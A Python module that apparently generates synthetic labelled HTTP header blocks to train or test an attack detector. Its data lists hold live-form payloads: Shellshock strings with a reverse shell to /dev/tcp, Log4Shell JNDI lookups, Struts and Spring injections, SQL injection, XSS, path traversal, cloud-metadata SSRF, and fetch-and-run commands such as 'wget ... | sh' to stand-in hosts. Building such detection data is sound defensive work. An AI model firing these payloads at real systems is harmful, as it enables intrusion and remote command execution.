# ruff: noqa: E501 - lists of values
"""Header lines and blocks of many clients, servers and attacks, with and without the pseudo headers of HTTP/2.

Forms are those that clients and servers document; the labels are those of the task http-header. Attacks stand where they do on a network:
in one header of a block that is ordinary otherwise, so that neither the block nor a pseudo header tells the class.
"""

from __future__ import annotations

import random
import re
import string
from collections.abc import Callable, Sequence

from tools.synth import uri_payloads, uri_server_side, user_agent
from tools.synth.evasion import parameters
from tools.synth.words import brand, domain, person, syllables, word

Row = tuple[str, str, str]
Header = tuple[str, str]
_HEX, _ALNUM = string.digits + "abcdef", string.ascii_letters + string.digits
_TYPES = ("text/html; charset=utf-8", "application/json", "image/png", "text/css", "application/javascript", "font/woff2", "text/plain",
          "application/octet-stream", "application/x-www-form-urlencoded", "video/mp4", "application/xml", "image/svg+xml")  # fmt: skip
_LANGUAGES = ("en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.8", "en-GB", "es-ES,es;q=0.9", "ja", "ru-RU,ru;q=0.9", "pt-BR")
_LIBRARIES = ("okhttp/{a}.{b}.{c}", "axios/{a}.{b}.{c}", "Go-http-client/{d}.1", "Apache-HttpClient/{a}.{b}.{c} (Java/1.8.0_{n})", "curl/8.{b}.{c}",
              "PostmanRuntime/7.{n}.{c}", "python-requests/2.{n}.{c}", "aiohttp/3.{b}.{c}", "Ruby", "GitHub Desktop", "node-fetch/1.0",
              "{w}-sdk-go/{a}.{b}.{c}", "{w}-cli/{a}.{b}.{c}", "{w}/{a}.{b} CFNetwork/{n} Darwin/22.6.0", "Dalvik/2.1.0 (Linux; U; Android 1{d})",
              "python:{w}:v{a}.{b} (by /u/{w}{d})", "{w}API Ruby Gem {a}.{b}.{c}", "{w}Kit/{n} (com.{w}.app; iOS 1{d}.{b})",
              "Microsoft-CryptoAPI/{d}.0", "Microsoft NCSI", "Microsoft BITS/7.{d}", "Windows-Update-Agent/10.0.10011.163{d}", "com.apple.trustd/2.{d}",
              "Wget/1.{n} (linux-gnu)", "uclient-fetch", "Debian APT-HTTP/1.3 ({d}.{b}.{c})", "CaptiveNetworkSupport-{n}.{d}.1 wispr", "VLC/3.0.{c} LibVLC/3.0.{c}",
              "AppleCoreMedia/1.0.0.1{d}C{n} (iPhone; U; CPU OS 1{d}_{c} like Mac OS X; en_us)", "{w}Client/{a}.{b}", "{w}.exe/{a}.{b}.{c}.{n}",
              "Android/1{d} {w}/{a}.{b}.{c}", "libcurl/7.{n}.{c} OpenSSL/1.1.1", "Java/1.8.0_{n}", "ExoPlayerLib/2.{b}.{c}", "WinHttp.WinHttpRequest.5", "{w}Updater")  # fmt: skip
_DESKTOPS = ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64", "Linux; Android 1{d}; SM-G9{n}")
_ENGINES = ("AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36", "Gecko/20100101 Firefox/{n}.0",
            "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/1{d}.{b} Safari/605.1.15",
            "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36 Edg/{n}.0.{n}.{d}")  # fmt: skip
_OLDER = ("Mozilla/5.0 (Windows NT {a}.{d}; WOW64; Trident/7.0; rv:11.0) like Gecko", "Mozilla/5.0 (compatible; MSIE {d}.0; Windows NT 6.{d}; Trident/{a}.0)", "Mozilla/4.0 (compatible; MSIE {d}.0; Windows NT 5.{d}; .NET CLR 2.0.50{n})",
          "Mozilla/5.0 (Windows NT 6.{d}; rv:{n}.0) Gecko/20100101 Firefox/{n}.0", "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.{d}.{c}) Gecko/2009{n} Firefox/3.{d}.{c}", "Opera/9.{n} (Windows NT 6.{d}; U; en) Presto/2.{n} Version/1{d}.{b}",
          "Mozilla/5.0 (Windows NT 6.{d}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.{n}.{n} Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS {b}_{d} like Mac OS X) AppleWebKit/60{d}.1 (KHTML, like Gecko) Version/{b}.0 Mobile/15E148 Safari/60{d}.1",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_{d}_{a}) AppleWebKit/53{d}.{n} (KHTML, like Gecko) Version/{d}.0 Safari/53{d}.{n}", "Mozilla/5.0 (Linux; U; Android {a}.{d}; en-us; {w} Build/{w}) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
          "Mozilla/5.0 (X11; Ubuntu; Linux i686; rv:{n}.0) Gecko/20100101 Firefox/{n}.0", "Mozilla/5.0 (Linux; Android {b}; {w}; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/{n}.0.{n}.{n} Mobile Safari/537.36")  # fmt: skip
_ACCEPTED = ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "image/png,image/*;q=0.8,*/*;q=0.5", "image/webp,*/*;q=0.8", "image/avif,image/webp,*/*", "text/css,*/*;q=0.1", "*/*", "application/javascript, */*;q=0.8",
             "application/json, text/javascript, */*; q=0.01", "text/html, application/xhtml+xml, */*", "image/gif, image/jpeg, image/pjpeg, application/x-ms-application, */*", "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,image/apng,*/*;q=0.8")  # fmt: skip
"""Browsers of the years before, and what browsers accept for pages, pictures, styles and scripts."""
_SERVERS = ("Apache/2.4.{n} (Ubuntu)", "nginx/1.{n}.{c}", "Microsoft-IIS/{d}.0", "Apache-Coyote/1.1", "Jetty(9.4.{n}.v20200227)", "lighttpd/1.4.{n}",
            "Werkzeug/2.{b}.{c} Python/3.{b}.{c}", "gunicorn/20.{b}.{c}", "openresty/1.{n}.{c}.1", "Apache/2.2.{n} (CentOS) PHP/5.{b}.{c}",
            "PHP/7.{b}.{n} Development Server", "WEBrick/1.4.{c} (Ruby/2.{b}.{c}/2019-01-01)", "Kestrel", "Boa/0.94.14rc{d}", "thttpd/2.{n}b")  # fmt: skip
_PLAIN_SERVERS = (
    "nginx",
    "Apache",
    "cloudflare",
    "gws",
    "AmazonS3",
    "GitHub.com",
    "ESF",
    "AkamaiGHost",
    "Varnish",
    "envoy",
    "Caddy",
    "tsa_b",
)
_INJECTED = (
    "() {{ :;}}; /bin/bash -c '{c}'", "() {{ :; }}; echo; {c}", "${{jndi:ldap://{h}/a}}", "${{jndi:${{lower:l}}dap://{h}/x}}",
    "%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{c}')}}", "%{{#context['com.opensymphony.xwork2']}}",
    "127.0.0.1' OR SLEEP(5)-- -", "1' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- ", "'||(select 1 from pg_sleep(5))||'", "<script>alert({n})</script>",
    '"><img src=x onerror=alert({n})>', "; {c} #", "| {c}", "`{c}`", "$({c})", "../../../../etc/passwd", "{{{{7*7}}}}", "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/", "%0d%0aSet-Cookie: admin=1", 'O:8:"stdClass":1:{{s:4:"test";s:{n}:"{w}";}}',
    "() {{ ignored; }}; {c}", "() {{ _; }} >_[$($())] {{ {c}; }}", "() {{ :; }}; /bin/bash -i >& /dev/tcp/{h}/{n} 0>&1", "${{{n}*{n}}}", "#{{{n}*{n}}}", "<%= {n}*{n} %>",
    "${{jndi:rmi://{h}:{n}/{w}}}", "${{jndi:dns://{h}}}", "${{${{::-j}}ndi:ldap://{h}/{w}}}", "{w}%00{w}", "php://filter/convert.base64-encode/resource={w}.php",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA{w}", "T(java.lang.Runtime).getRuntime().exec('{c}')", "bytes=0-18446744073709551615",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern={w}", "<!DOCTYPE x [<!ENTITY {w} SYSTEM \"file:///etc/hosts\">]>",
)  # fmt: skip
_COMMANDS = ("id", "whoami", "cat /etc/passwd", "wget http://{h}/x.sh -O- | sh", "curl {h}/{w}", "ping -c 3 {h}", "nslookup {h}", "sleep 5")
_CARRIERS = ("User-Agent", "User-Agent", "User-Agent", "Referer", "Referer", "X-Forwarded-For", "Cookie", "X-Api-Version", "Content-Type", "X-Forwarded-Host", "Accept-Language",
             "Authorization", "Origin", "X-Real-IP", "Accept", "X-Client-IP", "True-Client-IP", "If-None-Match", "X-Requested-With", "cmd")  # fmt: skip
_ATTACK_LINES = (
    "X-Original-URL: /admin", "X-Rewrite-URL: /{w}/admin", "Transfer-Encoding: chunked, identity", "Transfer-Encoding : chunked", "X-Forwarded-Host: {h}",
    "x-middleware-subrequest: middleware:middleware:middleware:middleware", "Content-Length: 0, 44", "Connection: close, X-F5-Auth-Token",
    "X-HTTP-Method-Override: PUT", "Translate: f", "Range: bytes=0-,5-0,5-1,5-2,5-3,5-4", "X-Custom-IP-Authorization: 127.0.0.1",
    "next-action: {w} | content-type: multipart/form-data", "Authorization: Basic Og==", "User-Agent: Mozilla/5.0' UNION SELECT {n},{n}--",
)  # fmt: skip


def _draw(rng: random.Random, alphabet: str, low: int, high: int) -> str:
    return "".join(rng.choices(alphabet, k=rng.randint(low, high)))


def _filled(rng: random.Random, form: str) -> str:
    drawn = {"a": rng.randint(0, 6), "b": rng.randint(0, 14), "c": rng.randint(0, 20), "d": rng.randint(0, 9), "n": rng.randint(20, 140)}
    return form.format(**drawn, w=rng.choice((word, brand))(rng), h=rng.choice((domain(rng), f"{_draw(rng, _HEX, 8, 20)}.oast.fun")))


def _address(rng: random.Random) -> str:
    """The page that a browser comes from."""
    path = "".join(f"/{word(rng)}" for _ in range(rng.randint(0, 3))) + rng.choice(("/", ".html", ".php", ".aspx", ""))
    return f"{rng.choice(('http', 'https'))}://{rng.choice(('', 'www.'))}{domain(rng)}{path}" + (
        f"?{parameters(rng, rng.randint(1, 9))}" if rng.random() < 0.4 else ""
    )


def _cookies(rng: random.Random) -> str:
    """A browser's cookies."""
    names = (word(rng), f"_{word(rng)[:3]}", "PHPSESSID", "JSESSIONID", "_ga", "__utma", "uid", "s_cc", "consent")
    values = [
        f"{_draw(rng, _ALNUM, 4, 60)}",
        f"GA1.{rng.randint(1, 3)}.{rng.randrange(10**9)}.{rng.randrange(10**9)}",
        str(rng.randrange(10**9)),
        "true",
        f"%5B%5B{word(rng)}%5D%5D",
    ]
    return "; ".join(f"{rng.choice(names)}={rng.choice(values)}" for _ in range(rng.randint(1, 6)))


def _browser(rng: random.Random) -> str:
    if rng.random() < 0.4:
        return _filled(rng, rng.choice(_OLDER))
    return f"Mozilla/5.0 ({_filled(rng, rng.choice(_DESKTOPS))}) {_filled(rng, rng.choice(_ENGINES))}"


def _shuffled(rng: random.Random, headers: Sequence[Header], low: int = 1) -> list[Header]:
    kept = rng.sample(list(headers), rng.randint(low, len(headers)))
    return kept


def _pseudo(rng: random.Random, host: str) -> list[Header]:
    path = rng.choice(
        ("/", f"/{word(rng)}", f"/{word(rng)}/{word(rng)}.php", f"/api/v{rng.randint(1, 4)}/{word(rng)}?id={rng.randrange(9999)}")
    )
    parts = [(":authority", host), (":method", rng.choice(("GET", "GET", "POST"))), (":path", path), (":scheme", "https")]
    return rng.sample(parts, rng.randint(1, 4))


def _request(rng: random.Random, agent: str, more: Sequence[Header]) -> list[Header]:
    """A block with an agent; of half of them with HTTP/2's pseudo headers in place of ``Host``."""
    host = rng.choice((domain(rng), f"www.{domain(rng)}", f"api.{domain(rng)}"))
    start = _pseudo(rng, host) if rng.random() < 0.5 else [("Host", host)]
    return [*start, ("User-Agent", agent), *_shuffled(rng, more)]


def _browser_block(rng: random.Random) -> list[Header]:
    more = [("Accept", rng.choice(_ACCEPTED)), ("Accept-Language", rng.choice(_LANGUAGES)),
            ("Accept-Encoding", "gzip, deflate, br"), ("Connection", "keep-alive"), ("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Mode", "navigate"),
            ("Referer", _address(rng)), ("Origin", f"https://{domain(rng)}"), ("X-Requested-With", rng.choice(("XMLHttpRequest", f"com.{word(rng)}.{word(rng)}"))), ("Cookie", _cookies(rng)), ("Sec-Fetch-Dest", "document"),
            ("Sec-CH-UA-Platform", rng.choice(('"Windows"', '"macOS"', '"Android"'))), ("DNT", "1"), ("Cache-Control", "max-age=0")]  # fmt: skip
    return _request(rng, _browser(rng), more)


def _client_block(rng: random.Random) -> list[Header]:
    more = [("Accept", rng.choice(("*/*", "application/json", "application/vnd.api+json"))), ("Accept-Encoding", "gzip, deflate"), ("Connection", "keep-alive"),
            ("Authorization", f"{rng.choice(('Bearer', 'token', 'Basic', 'bearer'))} {_draw(rng, _ALNUM, 16, 60)}"), ("Content-Type", "application/json"),
            ("Content-Length", str(rng.randrange(9000))), ("X-Request-Id", _draw(rng, _HEX, 32, 32)), ("X-Api-Key", _draw(rng, _ALNUM, 20, 40)),
            ("Idempotency-Key", _draw(rng, _HEX, 32, 32)), ("Cookie", f"{word(rng)}={_draw(rng, _ALNUM, 8, 40)}")]  # fmt: skip
    return _request(rng, _filled(rng, rng.choice(_LIBRARIES)), more)


def _services(rng: random.Random) -> list[Header]:
    """Headers of caches, clouds and interfaces, which tell nothing about the server's software."""
    token, number = _draw(rng, _ALNUM, 10, 60), str(rng.randrange(10 ** rng.randint(1, 10)))
    found = [("X-Varnish", number), ("X-Served-By", f"cache-{_draw(rng, _ALNUM, 3, 8)}-{word(rng)[:3].upper()}"), ("Via", "1.1 varnish"), ("CF-RAY", _draw(rng, _HEX, 16, 16)),
             ("X-Amz-Id-2", f"{token}="), ("X-Amz-Request-Id", _draw(rng, _HEX.upper(), 16, 16)), ("X-Amz-Cf-Id", f"{token}=="), ("X-Timer", f"S{number}.{number},VS0,VE{rng.randrange(99)}"),
             ("X-Cache-Hits", str(rng.randrange(99))), ("X-Request-Id", token), ("X-Ratelimit-Limit", number), ("X-Rate-Limit-Reset", number), ("Alt-Svc", 'h3=":443"; ma=86400'),
             ("Link", f'<https://api.{domain(rng)}/{word(rng)}?page={rng.randint(2, 9)}>; rel="next"'), ("Location", f"https://{domain(rng)}/{word(rng)}"), ("Accept-Ranges", "bytes"),
             ("Content-Security-Policy", "default-src 'self'; img-src *"), ("Access-Control-Expose-Headers", f"ETag, Link, X-{word(rng).title()}"), ("X-Xss-Protection", "1; mode=block"),
             ("Expires", "Thu, 01 Jan 1970 00:00:00 GMT"), ("Pragma", "no-cache"), ("Transfer-Encoding", "chunked"), ("Keep-Alive", f"timeout={rng.randint(1, 30)}, max=100"),
             ("Status", "200 OK"), ("Content-Disposition", f'attachment; filename="{word(rng)}.pdf"'), ("Referrer-Policy", "no-referrer"), ("Timing-Allow-Origin", "*"),
             (f"X-{word(rng).title()}-Id", token), (f"X-{word(rng).title()}", rng.choice((word(rng), number, token))), ("X-OAuth-Scopes", f"{word(rng)}, read:{word(rng)}"),
             ("X-Response-Time", f"{rng.randrange(999)}ms"), (f"{brand(rng)}-Media-Type", f"{word(rng)}.v{rng.randint(1, 9)}")]  # fmt: skip
    return rng.sample(found, rng.randint(2, 10))


def _response(rng: random.Random, server: str, more: Sequence[Header] = ()) -> list[Header]:
    plain = [("Date", f"Mon, {rng.randint(1, 28):02} Mar 20{rng.randint(10, 26)} {rng.randint(0, 23):02}:10:{rng.randint(0, 59):02} GMT"),
             ("Content-Type", rng.choice(_TYPES)), ("Content-Length", str(rng.randrange(99999))), ("Cache-Control", rng.choice(("no-store", "private", "public"))),
             ("ETag", f'"{_draw(rng, _HEX, 8, 32)}"'), ("Vary", "Accept-Encoding"), ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
             ("X-Frame-Options", "SAMEORIGIN"), ("X-Content-Type-Options", "nosniff"), ("Content-Encoding", "gzip"), ("Age", str(rng.randrange(9999))),
             ("Set-Cookie", f"{word(rng)}={_draw(rng, _ALNUM, 8, 40)}; path=/; HttpOnly"), ("X-Ratelimit-Remaining", str(rng.randrange(600))),
             ("X-Cache", rng.choice(("HIT", "MISS"))), ("Connection", "close"), ("Access-Control-Allow-Origin", "*"), ("P3P", 'CP="NOI DSP"'),
             *_services(rng)]  # fmt: skip
    start = [(":status", rng.choice(("200", "301", "304", "404")))] if rng.random() < 0.3 else []
    block = [*start, *_shuffled(rng, plain), *([("Server", server)] if server else []), *more]
    rng.shuffle(block)
    return block


def _ordinary_response(rng: random.Random) -> list[Header]:
    return _response(rng, rng.choice(("", *_PLAIN_SERVERS)))


def _leak(rng: random.Random) -> list[Header]:
    address = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}"
    forms = [("X-Powered-By", _filled(rng, rng.choice(("PHP/{a}.{b}.{c}", "ASP.NET", "Express", "PleskLin", "Servlet/3.{d} JSP/2.{d}", "Next.js {n}")))),
             ("X-AspNet-Version", _filled(rng, "4.0.{n}")), ("X-AspNetMvc-Version", _filled(rng, "{d}.{b}")), ("X-Generator", _filled(rng, "Drupal {d}")),
             ("X-Debug-Token", _draw(rng, _HEX, 6, 8)), ("X-Backend-Server", f"{word(rng)}{rng.randrange(20):02}.internal"), ("Via", f"1.1 {address}:8080"),
             ("X-Runtime", f"0.{rng.randrange(999999)}"), ("X-Application-Context", f"{word(rng)}:{rng.choice((80, 8080, 8001))}"), ("X-Host", f"{word(rng)}{rng.randrange(9)}"),
             ("Server", _filled(rng, rng.choice(_SERVERS))), ("X-Real-Server", address), ("X-Jenkins", _filled(rng, "2.{n}")), ("Liferay-Portal", _filled(rng, "6.{b}.{c}"))]  # fmt: skip
    chosen = rng.sample(forms, rng.choice((1, 1, 2))) if rng.random() < 0.5 else [("Server", _filled(rng, rng.choice(_SERVERS)))]
    return chosen if rng.random() < 0.4 else _response(rng, "", chosen)


def _payload(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.5:
        found = [row for row in [*uri_payloads.generate(rng, 4), *uri_server_side.generate(rng, 4)] if row[1] != "normal"]
        if found:
            return rng.choice(found)[0]
    text = rng.choice(_INJECTED)
    text = text.replace("{c}", rng.choice(_COMMANDS))
    return _filled(rng, text)


def _attack(rng: random.Random) -> list[Header]:
    """An attack in a header by itself, or in one of a block."""
    if rng.random() < 0.2:
        name, _, value = _filled(rng, rng.choice(_ATTACK_LINES)).partition(": ")
        line = (name, value)
    else:
        line = (rng.choice((*_CARRIERS, f"X-{word(rng).title()}")), _payload(rng))
    if rng.random() < 0.4:
        return [line]
    block = [h for h in rng.choice((_browser_block, _client_block))(rng) if h[0] != line[0]]
    block.insert(rng.randint(0, len(block)), line)
    return block


def _crawler(rng: random.Random) -> list[Header]:
    wanted = ("crawler-bot", "attack-tool") if rng.random() < 0.6 else ("attack-tool",)
    for text, label, _ in user_agent.generate(rng, 20):
        if label in wanted and not re.search(r"[<${'|]|\.\./", text):
            return _request(
                rng,
                text,
                [("Accept", "*/*"), ("Accept-Encoding", "gzip"), ("Connection", "close"), ("From", f"{person(rng)}@{domain(rng)}")],
            )
    return _request(rng, f"{brand(rng)}Bot/{rng.randint(1, 5)}.0 (+https://{domain(rng)}/bot)", [("Accept", "*/*")])


_COMMON = ("Host", "Accept-Encoding", "Connection", ":authority", ":method", ":path", ":scheme", "Cookie", "Content-Length", "Cache-Control")  # fmt: skip
"""Headers that any client sends."""
FORMS: dict[str, Callable[[random.Random], list[Header]]] = {
    "ordinary-browser": _browser_block, "ordinary-api-client": _client_block, "ordinary-response": _ordinary_response, "server-leak": _leak,
    "attack": _attack, "crawler-scanner": _crawler,
}  # fmt: skip


def _any_host(rng: random.Random) -> str:
    """A host under any ending: which host is asked for is no attack on it."""
    name = rng.choice((word(rng), syllables(rng, rng.randint(2, 5)), f"{word(rng)}{rng.choice(('', '-'))}{word(rng)}", brand(rng)))
    ending = rng.choice(
        (
            "com",
            "net",
            "org",
            "biz",
            "xyz",
            "lol",
            "site",
            "digital",
            "sbs",
            "life",
            "world",
            "lat",
            "co.uk",
            "ru",
            "de",
            "click",
            "top",
            "pw",
            "vip",
            "info",
        )
    )
    return f"{rng.choice(('', '', 'www.', f'{word(rng)}.', 'cdn.', 'ns1.'))}{name}.{ending}"


def _discovery(rng: random.Random) -> list[Header]:
    """A search by SSDP (UPnP Device Architecture 1.1, section 1.3.2)."""
    kind = rng.choice(
        ("ssdp:all", "upnp:rootdevice", f"urn:schemas-upnp-org:device:{word(rng).title()}:1", "urn:dial-multiscreen-org:service:dial:1")
    )
    return rng.sample([("HOST", "239.255.255.250:1900"), ("MAN", '"ssdp:discover"'), ("MX", str(rng.randint(1, 5))), ("ST", kind)], 4)


_REQUESTS, _RESPONSES = ("ordinary-browser", "ordinary-api-client"), ("ordinary-response", "server-leak")
_LEAKS = re.compile(
    r"(?i)^(?:x-powered-by|x-asp|x-runtime|x-application|x-host|x-node|x-backend(?!-header)|host-header|www-auth|x-generator|liferay|x-jenkins)"
)


def _agent(rng: random.Random) -> tuple[str, str]:
    """A client's name, and the label of a request by it."""
    label = rng.choice((*_REQUESTS, "crawler-scanner"))
    if label == "crawler-scanner":
        return dict(_crawler(rng))["User-Agent"], label
    return _browser(rng) if label == "ordinary-browser" else _filled(rng, rng.choice(_LIBRARIES)), label


def _twin_of_request(rng: random.Random, block: list[Header], label: str) -> tuple[list[Header], str]:
    """A request with an attack in one header, with another client's name, or with one more header."""
    place, roll = rng.randrange(len(block)), rng.random()
    if roll < 0.45:
        name = rng.choice((block[place][0], *_CARRIERS))
        value = _payload(rng)
        if name == block[place][0] and rng.random() < 0.3:
            value = block[place][1] + rng.choice(("", " ")) + value
        rest = [header for header in block if header[0].lower() != name.lower()]
        rest.insert(min(place, len(rest)), (name, value))
        return rest, "attack"
    if roll < 0.75:
        agent, label = _agent(rng)
        rest = [header for header in block if not header[0].lower().startswith(("user-agent", "sec-"))]
        rest.insert(rng.randint(0, len(rest)), ("User-Agent", agent))
        return rest, label
    more = (f"X-{word(rng).title()}", rng.choice((word(rng), _draw(rng, _ALNUM, 4, 40), str(rng.randrange(10**6)))))
    return [*block[:place], more, *block[place:]], label


def _twin_of_response(rng: random.Random, block: list[Header], label: str) -> tuple[list[Header], str] | None:
    """A response that says which software sent it, and one that says it no longer."""
    rest = [header for header in block if header[0].lower() != "server"]
    said = len(rest) < len(block)
    if label == "server-leak" and (not said or any(_LEAKS.match(name) for name, _ in rest)):
        return None
    if rng.random() < 0.5:
        rest += rng.sample(_services(rng), rng.randint(0, 2))
    form = rng.choice(_leak(rng)) if rng.random() < 0.5 else None
    if rng.random() < 0.6 and (not form or form[0] != "Server"):
        rest.insert(rng.randint(0, len(rest)), ("Server", rng.choice((*_PLAIN_SERVERS, f"{brand(rng)}", f"{word(rng).title()}_Server"))))
    if form:
        rest.insert(rng.randint(0, len(rest)), form)
    return rest, "server-leak" if form else "ordinary-response"


def twins(rng: random.Random, rows: Sequence[tuple[str, str]], n: int) -> list[Row]:
    """Make some ``n`` rows from blocks of a table, each changed in what decides its label, so that the rest of a block tells nothing."""
    blocks = [row for row in rows if " | " in row[0] and row[1] in (*_REQUESTS, *_RESPONSES)]
    found = []
    for text, label in rng.choices(blocks, k=n) if blocks else ():
        block = [(name, value) for name, _, value in (line.partition(": ") for line in text.split(" | "))]
        changed = _twin_of_request(rng, block, label) if label in _REQUESTS else _twin_of_response(rng, block, label)
        if changed:
            found.append((" | ".join(f"{name}: {value}" for name, value in changed[0]), changed[1], "twin"))
    return found


def generate(rng: random.Random, n: int) -> list[Row]:
    """Make ``n`` rows, equally many of each label of ``FORMS``; some of the ordinary ones are single lines of a block."""
    labels, rows = list(FORMS), []
    for i in range(n):
        label = labels[i % len(labels)]
        block = FORMS[label](rng)
        if label == "ordinary-api-client" and rng.random() < 0.1:
            block = _discovery(rng)
        telling = [header for header in block if header[0] not in _COMMON]
        if label.startswith("ordinary") and telling and rng.random() < 0.35:
            block = [rng.choice(telling)]
        if label == "crawler-scanner" and rng.random() < 0.4:
            block = [header for header in block if header[0] == "User-Agent"]
        if label == "ordinary-browser" and rng.random() < 0.08:
            block = [("Host", _any_host(rng))]
        rows.append((" | ".join(f"{name}: {value}" for name, value in block), label, "wordlist"))
    return rows
